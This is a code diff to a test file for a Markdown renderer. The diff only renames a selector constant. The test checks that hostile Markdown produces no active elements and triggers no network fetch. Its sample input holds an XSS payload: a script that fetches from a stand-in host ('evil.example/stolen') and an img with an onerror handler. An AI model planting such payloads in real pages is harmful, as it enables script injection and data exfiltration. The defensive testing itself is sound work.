@@ -8,7 +8,7 @@ import { AnchorContext, Markdown } from './markdown.tsx'
 const renderView = (text: string) => render(<Markdown blocks={blockReader()(text)} />).container
 
 /** Elements and attributes that make a browser fetch, run, submit or follow something. */
-const live =
+const activeElements =
   'a, img, script, iframe, object, embed, link, style, svg image, video, audio, source, form, input, base, meta, [src], [href], [srcset], [style*="url"], [onerror], [onclick]'
 
 const hostile = `<script>fetch('https://evil.example/stolen')</script><img src="https://evil.example/pixel.png" onerror="alert(1)"> ![figura](https://evil.example/figure.png) [pulse aquí](https://evil.example/link) <a href="https://evil.example/link">aquí</a>
@@ -59,7 +59,7 @@ describe('the Markdown of an answer', () => {
   it('renders no element that loads, runs or navigates, for hostile Markdown', () => {
     const fetched = vi.spyOn(globalThis, 'fetch')
     const box = renderView(hostile)
-    expect([...box.querySelectorAll(live)].map((element) => element.outerHTML)).toEqual([])
+    expect([...box.querySelectorAll(activeElements)].map((element) => element.outerHTML)).toEqual([])
     expect(fetched).not.toHaveBeenCalled()
     // The address is readable text that can be copied.
     for (const address of [
